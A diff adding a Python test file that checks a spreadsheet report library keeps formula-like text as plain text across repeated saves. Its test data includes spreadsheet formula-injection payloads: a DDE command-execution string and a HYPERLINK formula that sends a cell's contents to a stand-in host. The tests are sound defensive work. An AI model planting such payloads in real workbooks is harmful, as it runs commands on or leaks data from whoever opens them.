@@ -1,0 +1,65 @@
+"""Text that begins like a formula stays text, wherever it stands and whoever saves the workbook."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+import pytest
+from hypothesis import given, settings
+
+from xxgk.report import Report
+from xxgk.workbook.formulas import formulas
+from xxgk.workbook.reading.read import read_report
+
+from conftest import FULL
+from support.reports import texts_everywhere
+from support.workbooks import LAYOUT, edited, filled, reports
+
+FORMULAS = {(formula.cell.sheet, formula.cell.ref) for formula in formulas(LAYOUT)}
+SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+BEFORE = ("\t", "\n", "\r\n", " ", "　", "'", '"', "{")
+ATTACKS = ("=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&C4,"看")', "@SUM(A1:A9)", "+86 10 1234", "-5")
+TEXTS = (*(f"{sign}1+1" for sign in SIGNS), *(f"{before}=1+1" for before in BEFORE), *ATTACKS)
+TURNS = range(len(TEXTS)) if FULL else (0,)  # which text comes first: in all turns, each text is in each cell
+
+
+def cells_of(data: bytes, kind: str) -> set[tuple[str, str]]:
+    """Return the cells that hold a formula ("f"), or a text ("s"), as openpyxl sees them."""
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    rows = (row for sheet in workbook for row in sheet.iter_rows())
+    return {(cell.parent.title, cell.coordinate) for row in rows for cell in row if cell.data_type == kind}
+
+
+def test_no_field_of_the_report_that_holds_text_is_left_out() -> None:
+    report = texts_everywhere(TEXTS)
+    others = {"form", "year", "level", "date", "previous", "remarks", "places"}
+    assert all(getattr(report, name) for name in Report._names if name not in others)
+    assert all(figure.note for figure in (*report.figures.values(), *report.fields.values()))
+
+
+@pytest.mark.parametrize("turn", TURNS)
+def test_text_stays_text_over_two_round_trips(turn: int) -> None:
+    report = texts_everywhere((*TEXTS[turn:], *TEXTS[:turn]))
+    data = filled(report)
+    texts = cells_of(data, "s")
+    for program in (lambda before: filled(read_report(before)), saved_by_openpyxl):
+        after = data
+        for _ in range(2):
+            after = program(after)
+            assert read_report(after) == report
+            assert cells_of(after, "f") == FORMULAS
+            assert cells_of(after, "s") == texts
+
+
+def saved_by_openpyxl(data: bytes) -> bytes:
+    return edited(data, lambda workbook: None)
+
+
+@settings(max_examples=settings().max_examples // 5)
+@given(reports())
+def test_what_was_read_is_written_and_read_alike(report: Report) -> None:
+    first = read_report(filled(report))
+    second = read_report(filled(first))
+    assert second == first == report
+    assert read_report(saved_by_openpyxl(filled(second))) == report
